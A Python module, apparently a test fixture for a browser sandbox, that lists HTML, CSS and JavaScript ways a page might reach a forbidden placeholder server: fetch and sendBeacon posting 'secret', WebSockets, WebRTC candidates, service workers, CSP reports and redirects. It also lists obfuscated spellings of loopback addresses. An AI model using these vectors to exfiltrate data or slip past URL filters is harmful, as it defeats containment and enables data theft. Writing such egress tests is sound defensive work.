"""Attempts to leave a page: each is a page that tries to reach a forbidden server, or a call that requests it.

In a page, `BAD` stands for `127.0.0.1:PORT` of the forbidden server, `GOOD` for that of the allowed server.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from urllib.parse import quote


@dataclass(frozen=True, slots=True)
class EgressAttempt:
    """One attempt. `body` is the page; `headers` are sent with it; `files` are served next to it; `act` runs once it is
    loaded.

    `url` instead of a body is the URL for Navigate.
    """

    name: str
    body: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    files: tuple[tuple[str, str, str], ...] = ()
    url: str = ""
    script: str = ""
    click: str = ""


MARKUP_ATTEMPTS = {
    "img": "<img src=http://BAD/>",
    "img srcset": "<img srcset='http://BAD/ 1x'>",
    "picture": "<picture><source srcset=http://BAD/><img></picture>",
    "input type=image": "<input type=image src=http://BAD/>",
    "stylesheet": "<link rel=stylesheet href=http://BAD/>",
    "css @import": "<style>@import url(http://BAD/);</style>",
    "css background": "<div style='background:url(http://BAD/)'>x</div>",
    "css cursor": "<style>a::before{content:url(http://BAD/)}</style><a>x</a>",
    "font": "<style>@font-face{font-family:f;src:url(http://BAD/)}</style><p style='font-family:f'>x",
    "script": "<script src=http://BAD/></script>",
    "module script": "<script type=module>import 'http://BAD/'</script>",
    "import map": '<script type=importmap>{"imports":{"x":"http://BAD/"}}</script>'
    '<script type=module>import "x"</script>',
    "modulepreload": "<link rel=modulepreload href=http://BAD/>",
    "preload": "<link rel=preload as=image href=http://BAD/>",
    "prefetch": "<link rel=prefetch href=http://BAD/>",
    "preconnect": "<link rel=preconnect href=http://BAD/>",
    "speculation rules": "<script type=speculationrules>"
    '{"prefetch":[{"source":"list","urls":["http://BAD/"],"eagerness":"immediate"}],'
    '"prerender":[{"source":"list","urls":["http://BAD/p"],"eagerness":"immediate"}]}</script>',
    "video": "<video src=http://BAD/ autoplay muted></video>",
    "audio": "<audio src=http://BAD/ autoplay muted></audio>",
    "track": "<video src=x><track default src=http://BAD/></video>",
    "video poster": "<video poster=http://BAD/></video>",
    "object": "<object data=http://BAD/ width=9 height=9></object>",
    "embed": "<embed src=http://BAD/ type=text/html>",
    "iframe": "<iframe src=http://BAD/></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<img src=http://BAD/>'></iframe>",
    "iframe data:": "<iframe src='data:text/html,<img src=http://BAD/>'></iframe>",
    "svg use": "<svg><use href=http://BAD/#a /></svg>",
    "svg image": "<svg><image href=http://BAD/ width=9 height=9 /></svg>",
    "manifest": "<link rel=manifest href=http://BAD/>",
    "favicon": "<link rel=icon href=http://BAD/>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://BAD/'>",
}

SCRIPT_ATTEMPTS = {
    "fetch": "fetch('http://BAD/')",
    "fetch no-cors": "fetch('http://BAD/', {mode: 'no-cors'})",
    "fetch POST": "fetch('http://BAD/', {method: 'POST', mode: 'no-cors', body: 'secret'})",
    "fetch keepalive": "fetch('http://BAD/', {keepalive: true, mode: 'no-cors'})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'http://BAD/'); x.send()",
    "sendBeacon": "navigator.sendBeacon('http://BAD/', 'secret')",
    "EventSource": "new EventSource('http://BAD/')",
    "WebSocket": "new WebSocket('ws://BAD/')",
    "WebSocket TLS": "new WebSocket('wss://BAD/')",
    "fetch https": "fetch('https://BAD/', {mode: 'no-cors'})",
    "WebTransport": "new WebTransport('https://BAD/').ready.catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://BAD/', {mode: 'no-cors'})\"])))",
    "worker importScripts": "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://BAD/')\"])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://BAD/', {mode: 'no-cors'})\"])))",
    "Image()": "new Image().src = 'http://BAD/'",
    "cache.add": "caches.open('x').then(c => c.add(new Request('http://BAD/', {mode: 'no-cors'})))",
    "location": "location = 'http://BAD/'",
    "location.replace": "location.replace('http://BAD/')",
    "about:blank frame": "const f = document.body.appendChild(document.createElement('iframe'));"
    "f.contentWindow.fetch('http://BAD/', {mode: 'no-cors'})",
    "blob: frame": "const f = document.createElement('iframe');"
    "f.src = URL.createObjectURL(new Blob(['<img src=http://BAD/>'], {type: 'text/html'}));document.body.append(f)",
    "form GET": "const f = document.createElement('form'); f.action = 'http://BAD/';"
    "document.body.append(f); f.submit()",
    "form POST": "const f = document.createElement('form'); f.method = 'post'; f.action = 'http://BAD/';"
    "document.body.append(f); f.submit()",
    "form to a frame": "document.body.innerHTML = '<iframe name=n></iframe><form target=n action=http://BAD/></form>';"
    "document.forms[0].submit()",
    "fetch after a redirect": "fetch('http://GOOD/to/307?http://BAD/', {mode: 'no-cors'})",
    "WebRTC STUN": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:BAD'}]});"
    "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "WebRTC TURN over UDP": "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:BAD', username: 'a',"
    " credential: 'b'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "WebRTC TURN over TCP": "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:BAD?transport=tcp', "
    "username: 'a', credential: 'b'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "WebRTC candidates": "(async () => {const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];"
    "a.createDataChannel('x'); await a.setLocalDescription(await a.createOffer());"
    "await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(await b.createAnswer());"
    "await a.setRemoteDescription(b.localDescription); const [h, p] = 'BAD'.split(':');"
    "for (const c of [`candidate:1 1 udp 2113937151 ${h} ${p} typ host`,"
    " `candidate:2 1 tcp 1518280447 ${h} ${p} typ host tcptype passive`])"
    " await a.addIceCandidate({candidate: c, sdpMid: '0', sdpMLineIndex: 0})})()",
}

_WORKER = "self.addEventListener('activate', e => e.waitUntil(fetch('http://BAD/', {mode: 'no-cors'})))"

SPECIAL = (
    EgressAttempt(
        "CSP report", "<img src=/no>", (("Content-Security-Policy", "img-src 'none'; report-uri http://BAD/"),)
    ),
    EgressAttempt("Link header", "x", (("Link", "<http://BAD/>; rel=preload; as=image"),)),
    EgressAttempt("Refresh header", "x", (("Refresh", "0; url=http://BAD/"),)),
    EgressAttempt("Alt-Svc", "<script>fetch('/again')</script>", (("Alt-Svc", 'h2="BAD"; ma=60, h3="BAD"; ma=60'),)),
    EgressAttempt(
        "service worker",
        "<script>navigator.serviceWorker.register('/sw.js')</script>",
        files=(("/sw.js", "text/javascript", _WORKER),),
    ),
    EgressAttempt("window.open", "<button onclick=\"window.open('http://BAD/')\">go</button>", click="button"),
    EgressAttempt("link", "<a href=http://BAD/>go</a>", click="a"),
    EgressAttempt("link to a new tab", "<a href=http://BAD/ target=_blank>go</a>", click="a"),
    EgressAttempt("link with ping", "<a href='#x' ping=http://BAD/>go</a>", click="a"),
    EgressAttempt("link with download", "<a href=http://BAD/ download>go</a>", click="a"),
    EgressAttempt(
        "link to javascript:", "<a href=\"javascript:fetch('http://BAD/',{mode:'no-cors'})\">go</a>", click="a"
    ),
    EgressAttempt("button that redirects", "<a href='/to/302?http://BAD/'>go</a>", click="a"),
    EgressAttempt("Evaluate", "x", script="fetch('http://BAD/', {mode: 'no-cors'}).then(() => 1, () => 0)"),
    EgressAttempt("Evaluate location", "x", script="location = 'http://BAD/'; 0"),
)


def egress_attempts(bad_port: int, local_address: str) -> list[EgressAttempt]:
    """All attempts.

    Args:
        local_address: an address of this machine other than loopback; empty if there is none.
    """
    made = [EgressAttempt(name, f"<body>{markup}") for name, markup in MARKUP_ATTEMPTS.items()]
    made += [EgressAttempt(name, f"<body><script>{code}</script>") for name, code in SCRIPT_ATTEMPTS.items()]
    made += SPECIAL
    made += [
        EgressAttempt(f"Navigate, redirect {code}", url=f"http://GOOD/to/{code}?http://BAD/") for code in REDIRECTS
    ]
    made += [
        EgressAttempt(
            "Navigate, two redirects", url="http://GOOD/to/302?" + quote("http://GOOD/to/302?http://BAD/", safe="")
        )
    ]
    for spelled in _spellings(local_address):
        made.append(EgressAttempt(f"Navigate {spelled}", url=f"http://{spelled}:{bad_port}/"))
        url = json.dumps(f"http://{spelled}:{bad_port}/")
        made.append(EgressAttempt(f"fetch {spelled}", f"<body><script>fetch({url}, {{mode: 'no-cors'}})</script>"))
    made += [
        EgressAttempt("Navigate, userinfo", url="http://GOOD@BAD/"),
        EgressAttempt("Navigate, userinfo with a password", url="http://127.0.0.1:GOODPORT@BAD/"),
        EgressAttempt("WebSocket to localhost", f"<body><script>new WebSocket('ws://localhost:{bad_port}/')</script>"),
    ]
    return made


REDIRECTS = (301, 302, 303, 307, 308)


def _spellings(local_address: str) -> tuple[str, ...]:
    several = (
        "127.0.0.1",
        "127.0.0.2",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "017700000001",
        "0177.0.0.01",
        "127.0.0.1.",
        "0.0.0.0",
        "0",
        "localhost",
        "LOCALHOST",
        "localhost.",
        "x.localhost",
        "[::1]",
        "[::]",
        "[0:0:0:0:0:0:0:1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[64:ff9b::127.0.0.1]",
        "[2002:7f00:1::]",
        "127\u30020\u30020\u30021",
        "\uff11\uff12\uff17.\uff10.\uff10.\uff11",
    )
    return (*several, local_address) if local_address else several
